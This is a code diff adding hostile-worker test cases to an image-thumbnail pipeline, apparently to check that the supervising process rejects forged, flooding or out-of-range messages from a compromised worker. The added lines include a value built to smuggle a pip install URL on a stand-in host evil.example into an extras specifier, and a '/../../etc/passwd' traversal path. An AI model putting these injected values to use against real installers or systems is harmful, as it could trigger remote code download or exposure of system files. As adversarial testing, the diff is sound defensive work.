@@ -24,9 +24,10 @@ from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 from pregen import cli, pipeline, work
-from pregen.engines.local import channel
+from pregen.engines.local import channel, protocol
 from pregen.imaging import thumbnail
 from pregen.imaging.faults import InvalidPicture
+from pregen.model import Kind, Outcome
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -35,8 +36,10 @@ if TYPE_CHECKING:
     from pregen.engines.base import Ask
     from pregen.imaging.decoders.base import Request
     from pregen.imaging.formats import Format
-    from pregen.model import AllowedFolders, Job, Outcome
+    from pregen.model import AllowedFolders, Job
 
+#: What pip takes for an address, between "pregen[" and "]".
+EVIL = "x] @ https://evil.example/y.whl #"
 _DESCRIPTORS = range(3, 256)
 
 
@@ -93,6 +96,31 @@ def _more_time() -> None:
     resource.setrlimit(resource.RLIMIT_CPU, (unlimited, unlimited))
 
 
+def _say(frame: bytes) -> None:
+    """Send the run a message in the worker's name, and leave time for what follows."""
+    _loop()._pipe.sendall(frame)
+    time.sleep(5)
+
+
+def _return_all() -> None:
+    loop = _loop()
+    queued = [job.job_id for job in loop._queue]
+    _say(protocol.returned_frame([loop._current, *queued]))
+
+
+def _flood(message: Callable[[int], bytes]) -> None:
+    loop = _loop()
+    for _ in range(200_000):
+        loop._pipe.sendall(message(loop._current))
+    time.sleep(5)
+
+
+def _speak_for_another() -> None:
+    made = Outcome(4, b"/nowhere", Kind.NOT_PICTURE)
+    numbered = (made._replace(job_id=number) for number in range(100, 200))
+    _say(protocol.report_frame(0, 0, [protocol.encode_outcome(each) for each in numbered]))
+
+
 #: Attacks made while the picture is decoded, by the word in a file's name.
 DECODING: dict[str, Callable[[], object]] = {
     "cut-slot": _cut_slot,
@@ -100,10 +128,29 @@ DECODING: dict[str, Callable[[], object]] = {
     "idle-slot": partial(_stay, _idle),
     "late-slot": partial(_stay, _late),
     "more-time": _more_time,
+    "ask-flood": partial(_flood, lambda job_id: protocol.ask_frame(job_id, 1 << 60)),
+    "open-flood": partial(_flood, protocol.open_frame),
+    "return-all": _return_all,
+    "speak-for-another": _speak_for_another,
 }
 
 #: What is put in place of the outcome, likewise.
-OUTCOMES: dict[str, Callable[[Outcome], Outcome]] = {}
+OUTCOMES: dict[str, Callable[[Outcome], Outcome]] = {
+    "another-path": lambda made: made._replace(path=b"/../../etc/passwd"),
+    "another-pid": lambda made: made._replace(worker_pid=1),
+    "big-number": lambda made: made._replace(bytes_read=2**63 - 1),
+    "negative-number": lambda made: made._replace(bytes_read=-(2**61)),
+    "negative-time": lambda made: made._replace(stages=made.stages._replace(decode_ns=-1)),
+    "much-time": lambda made: made._replace(stages=made.stages._replace(decode_ns=2**62)),
+    "many-entries": lambda made: made._replace(entries_written=2**40),
+    "huge-picture": lambda made: made._replace(width_px=2**40),
+    "extra": lambda made: made._replace(kind=Kind.NEEDS_EXTRA, extra=EVIL),
+    "verdict": lambda made: made._replace(kind=Kind.TIMED_OUT, message=EVIL),
+    "loader": lambda made: made._replace(loader=EVIL),
+    "mime": lambda made: made._replace(kind=Kind.UNSUPPORTED, mime=EVIL),
+    "stamps": lambda made: made._replace(stamps=made.stamps * 50),
+    "fingerprint": lambda made: made._replace(fingerprint=EVIL),
+}
 
 
 def make_taken_over(config: WorkConfig) -> _TakenOver:
